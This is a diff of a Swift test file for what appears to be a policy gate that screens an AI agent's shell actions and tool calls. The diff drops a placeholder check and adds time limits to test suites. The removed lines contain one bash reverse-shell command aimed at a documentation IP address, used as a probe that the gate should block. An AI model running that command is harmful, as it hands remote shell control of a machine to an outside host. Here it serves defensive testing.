@@ -1,8 +1,6 @@
 import CordonBase
 import Foundation
-// Replay and policy tests that need the real gate. Until the gate branch is merged,
-// Gate.evaluate is a placeholder that allows everything; these tests say so and are disabled
-// then, instead of passing vacuously or failing for a reason that is not theirs.
+// Replay and policy tests against the real gate and the shipped policies.
 import CordonGate
 import CordonPolicy
 import Glibc
@@ -10,18 +8,11 @@ import Testing
 
 @testable import CordonAudit
 
-let gateIsPlaceholder: Bool = {
-    let a = Action(id: "probe", payload: .shell("bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"))
-    return Gate.evaluate(a, policy: Policy()).decision == .allow
-}()
-
 func loadShipped(_ name: String) throws -> Policy {
     try PolicyLoader(environment: [:]).load(path: repoRoot() + "/policies/\(name).yaml")
 }
 
-@Suite(
-    "replay and policy tests against the real gate",
-    .disabled(if: gateIsPlaceholder, "Gate.evaluate is still the placeholder"))
+@Suite("replay and policy tests against the real gate", .timeLimit(.minutes(2)))
 struct PolicyReplayTests {
     @Test("a trace recorded under the default policy, replayed under strict.yaml, shows the expected changes")
     func defaultToStrict() throws {
@@ -76,7 +67,7 @@ struct PolicyReplayTests {
     }
 }
 
-@Suite("policy test files")
+@Suite("policy test files", .timeLimit(.minutes(10)))
 struct PolicyTestFileTests {
     @Test("the shipped test files load, and every case names an expected decision")
     func shippedFilesLoad() throws {
@@ -109,7 +100,7 @@ struct PolicyTestFileTests {
     }
 }
 
-@Suite("replay")
+@Suite("replay", .timeLimit(.minutes(10)))
 struct ReplayTests {
     @Test("evaluating identical actions once gives exactly the results of evaluating each")
     func memoization() throws {
@@ -173,7 +164,7 @@ extension ReplayTests {
     }
 }
 
-@Suite("replay from gate.log")
+@Suite("replay from gate.log", .timeLimit(.minutes(10)))
 struct ReplayFromLogTests {
     @Test("tool calls logged by inspect replay as tool calls, commands as shell lines")
     func toolCalls() throws {
@@ -221,7 +212,7 @@ struct ReplayFromLogTests {
     }
 }
 
-@Suite("replay from traces")
+@Suite("replay from traces", .timeLimit(.minutes(10)))
 struct ReplayFromTraceTests {
     @Test("an action that went to approval replays as requires_approval, whatever the approval made of it")
     func approvals() throws {
